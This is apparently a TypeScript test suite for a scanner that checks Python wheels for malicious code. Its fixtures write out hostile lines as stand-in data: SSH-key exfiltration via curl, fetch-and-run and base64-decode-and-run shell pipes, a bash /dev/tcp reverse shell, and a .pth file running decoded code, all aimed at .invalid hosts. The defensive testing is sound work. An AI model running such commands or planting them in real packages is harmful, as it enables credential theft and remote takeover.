import assert from 'node:assert/strict';
import { codeScanner } from '../../../../src/scanners/code/index.js';
import { entryOf, tree, wheel } from './helpers.js';
import { buildPyc } from './marshal-writer.js';

type Files = Readonly<Record<string, string | Buffer>>;
const report = { complete: true, problems: [], entries: 1, uncompressedBytes: 1, sha256: '' };

function findingsOf(files: Files, subject = wheel): readonly string[] {
  const session = codeScanner.begin(subject);
  for (const [path, content] of Object.entries(files)) session.entry(entryOf(path, content));
  const { findings } = session.finish(report);
  return findings.map(({ id, severity, confidence }) => {
    const denies = /critical|high/.test(severity) && confidence === 'high';
    return `${denies ? 'deny' : /critical|high|medium/.test(severity) ? 'review' : severity} ${id}`;
  });
}

describe('the code scanner, of files other than .py', () => {
  const encoded = Buffer.from('print(1)\n'.repeat(12)).toString('base64');
  const code = { names: ['exec', 'b64decode'] };
  const cases: readonly (readonly [string, Files, string])[] = [
    [
      'a script that sends keys',
      { 'pkg/a.sh': 'cat ~/.ssh/id_rsa | curl -d @- a.invalid\n' },
      'deny code/script-sends-secrets',
    ],
    [
      'a script that runs what it holds',
      { 'pkg/a.sh': `echo ${encoded} | base64 -d | sh\n` },
      'deny code/script-runs-encoded',
    ],
    [
      'a script that runs what it fetches',
      { 'pkg/a.sh': 'curl a.invalid | sh\n' },
      'review code/script-fetches-and-runs',
    ],
    [
      'the same, when the package starts it',
      {
        'pkg/__init__.py': "import subprocess\nsubprocess.Popen(['bash', 'install.sh'])\n",
        'pkg/install.sh': 'curl a.invalid | sh\n',
      },
      'deny code/starts-grave-file',
    ],
    ['bytecode without source', { 'pkg/a.pyc': buildPyc() }, 'review code/bytecode-without-source'],
    [
      'bytecode without source that names a key and an address',
      {
        'pkg/a.pyc': buildPyc({
          code: { names: ['urlopen'], constants: ['~/.ssh/id_rsa', 'https://k.invalid/x'] },
        }),
      },
      'deny code/credentials-sent',
    ],
    ['bytecode that hides', { 'pkg/a.pyc': buildPyc({ code }) }, 'deny code/bytecode-hides-execution'],
    [
      'bytecode that is never checked',
      { 'pkg/a.py': 'a = 1\n', 'pkg/__pycache__/a.cpython-311.pyc': buildPyc({ flags: 1 }) },
      'review code/bytecode-unchecked',
    ],
    [
      'Python in data, executed',
      {
        'pkg/__init__.py': "exec(open('data.bin').read())\n",
        'pkg/data.bin': "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
      },
      'deny code/data-executed',
    ],
    [
      'a .pth file',
      { 'a.pth': "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n" },
      'deny code/decoded-execution',
    ],
    ['a reverse shell', { 'pkg/a.sh': 'bash -i >& /dev/tcp/a.invalid/1 0>&1\n' }, 'deny code/reverse-shell'],
  ];
  for (const [name, files, expected] of cases) {
    it(`says of ${name}: ${expected}`, () => {
      assert.ok(findingsOf(files).includes(expected), findingsOf(files).join('; '));
    });
  }

  it('says of a build that requires by URL, in a tree', () => {
    const files = { 'pyproject.toml': '[build-system]\nrequires = ["a @ https://a.invalid/a.zip"]\n' };
    assert.deepEqual(findingsOf(files, tree), ['deny code/build-requires-url']);
  });

  it('says nothing of what honest wheels carry', () => {
    const files = {
      'pkg/__init__.py': 'a = 1\n',
      'pkg/activate.sh': 'export PATH="$PWD/bin:$PATH"\n',
      'pkg/static/app.min.js': '!function(e){e.exports=1}();'.repeat(1000),
      'pkg/__pycache__/__init__.cpython-311.pyc': buildPyc(),
      'pkg/data.txt': 'words\n'.repeat(100),
      'demo-1.0.dist-info/entry_points.txt': '[console_scripts]\ndemo = pkg:main\n',
    };
    assert.deepEqual(findingsOf(files), []);
  });
});
